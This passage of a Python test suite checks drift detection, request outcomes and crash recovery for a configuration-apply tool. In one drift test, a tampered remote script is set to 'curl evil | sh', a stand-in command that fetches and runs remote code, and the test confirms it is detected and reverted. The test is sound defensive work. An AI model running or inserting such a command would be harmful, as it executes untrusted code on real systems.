        with pytest.raises(RemoteError, match="has no receipt yet: the line went dead"):
            world.apply()
    assert (shared.apply(1).receipt is None) is arrives
    assert (len(received(shared).receipts), received(shared).intent) == (1, None)


# --- drift -----------------------------------------------------------------------------------------------------------


def test_drift_tells_what_was_done_around_the_gate_and_apply_puts_it_back(world: World) -> None:
    """Changed, assigned to others, missing, foreign; assignments in another order are no drift."""
    world.commit({"resources/apps/many.yaml": web_app("many", "required") + ASSIGNMENT})
    world.apply()
    assert (world.drift().objects, world.drift().message) == ((), None)
    ids = {marker.removeprefix("maa:contoso:"): one for marker, one in world.objects().items()}
    provider = world.provider()
    provider.assign(ids["app/many"].remote_id, tuple(reversed(ids["app/many"].held.assignments)))
    provider.assign(ids[PORTAL].remote_id, ())
    provider.update(
        ids[RENAME].remote_id,
        replace(ids[RENAME].held, data={**ids[RENAME].held.data, "scriptContent": "#!/bin/sh\ncurl evil | sh\n"}),
        f"maa:contoso:{RENAME}",
    )
    provider.delete(ids[PAYROLL].remote_id)
    stranger = provider.create(DesiredObject("app", {"displayName": "stranger"}), "maa:fabrikam:app/stranger")
    provider.close()
    found = world.drift()
    assert operations(found) == {
        PAYROLL: "delete missing",
        PORTAL: "assign changed",
        RENAME: "edit changed",
        f"app/{stranger}": "create foreign",
    }
    assert "-  echo one\n+  curl evil | sh\n" in texts(found)[RENAME]
    assert '-    group: "Staff"' in texts(found)[PORTAL]
    assert texts(found)[f"app/{stranger}"].endswith('+displayName: "stranger"')
    planned = {PAYROLL: "create", PORTAL: "assign", RENAME: "edit"}
    assert operations(world.plan()) == planned
    world.apply(1)
    assert operations(world.drift()) == {f"app/{stranger}": "create foreign"}
    assert "maa:fabrikam:app/stranger" in world.objects()


ASSIGNMENT = "- {intent: available, target: {group: Others}}\n"


def test_drift_compares_with_what_was_received_not_with_the_tip(alone: World) -> None:
    """What waits to be applied is no drift; before the first apply there is nothing to compare with."""
    assert (alone.drift().commit, alone.drift().message) == (None, "nothing has been applied yet")
    first = alone.apply().commit
    alone.commit({"resources/apps/portal.yaml": web_app("other"), "resources/apps/finance/payroll.yaml": None})
    assert (alone.drift().commit, alone.drift().objects) == (first, ())


def test_drift_while_a_run_has_not_ended_says_so(alone: World) -> None:
    """Half of a run looks like drift; the reader is told."""
    alone.apply()
    alone.commit({"resources/apps/new.yaml": web_app("new")})
    with pytest.raises(KeyboardInterrupt):
        alone.apply(1, wrap=Interrupted)
    assert alone.drift().message == "a run has not ended; what it sent shows here until `maa apply` has"


# --- how requests stand ----------------------------------------------------------------------------------------------


def test_rule9_the_outcomes_of_a_request_follow_the_receipts(world: World) -> None:
    """Pending before a receipt, failed while its objects are, applied from then on; the rules concern no target."""
    merged = world.commit({"resources/apps/new.yaml": web_app("new")})
    objects = (ObjectId("app", "new"), ObjectId("accessPolicy", "maa.yaml"))

    def outcomes(*asked: ObjectId) -> list[tuple[Outcome, str | None]]:
        found = outcome_reader(world.context())(merged, asked)
        return [(outcome.outcome, outcome.message) for outcome in found]

    assert outcomes(*objects) == [(Outcome.PENDING, None)]
    world.apply(wrap=lambda provider: Moody(provider, "create maa:contoso:app/new", []))
    assert outcomes(*objects) == [(Outcome.FAILED, "app/new: the service is in a mood")]
    assert outcomes(ObjectId("app", "portal")) == [(Outcome.APPLIED, None)]
    world.apply(1)
    assert (outcomes(*objects), outcomes(objects[1])) == ([(Outcome.APPLIED, None)], [])
    forge(world, b"junk\n", b"{}\n")
    assert outcomes(*objects) == [(Outcome.PENDING, None)]


# --- killed ----------------------------------------------------------------------------------------------------------

CHANGES = {
    "resources/apps/portal.yaml": web_app("portal", "available"),
    "resources/apps/finance/payroll.yaml": None,
    "resources/apps/pay.yaml": web_app("payroll"),
    "resources/apps/old.yaml": None,
    "resources/apps/new.yaml": web_app("new"),
    "resources/scripts/rename.sh": "#!/bin/sh\necho two\n",
}


@pytest.mark.parametrize("has_remote", [True, False], ids=["remote", "local"])
def test_f4_a_run_can_be_killed_at_any_step(tmp_path: Path, keys: Path, has_remote: bool) -> None:
    """Wherever it dies, the next run ends it: the target as planned, no duplicate, one chain of receipts, no intent."""
    template = make_world(tmp_path / "template", keys, has_remote=has_remote)
    template.commit({**FIRST, "resources/apps/old.yaml": web_app("old")})
    template.apply()
    template.commit(CHANGES)
    (tmp_path / "keys").symlink_to(keys)
    done = subprocess.run(
        [sys.executable, "-W", "error", "-m", "tests.applying", tmp_path],
        cwd=Path(__file__).parent.parent,
        check=True,
        capture_output=True,
        text=True,
    )
    steps = int(done.stdout)
    assert steps > 20
    whole = replace(template, root=tmp_path / str(steps + 1))
    expected = {marker: one.held.digest for marker, one in whole.objects().items()}
    assert set(expected) == {f"maa:contoso:{name}" for name in (PORTAL, "app/pay", "app/new", RENAME)}
    for step in range(1, steps + 2):
        world = replace(template, root=tmp_path / str(step))
        assert world.apply(2).failed == ()
        assert {marker: one.held.digest for marker, one in world.objects().items()} == expected, step
        found = received(world)
        assert ([len(one.failed) for one in found.receipts], found.intent) == ([0, 0], None), step
        assert {one.remote_id for one in found.objects.values()} == {one.remote_id for one in world.objects().values()}
        assert world.apply(3).receipt is None, step
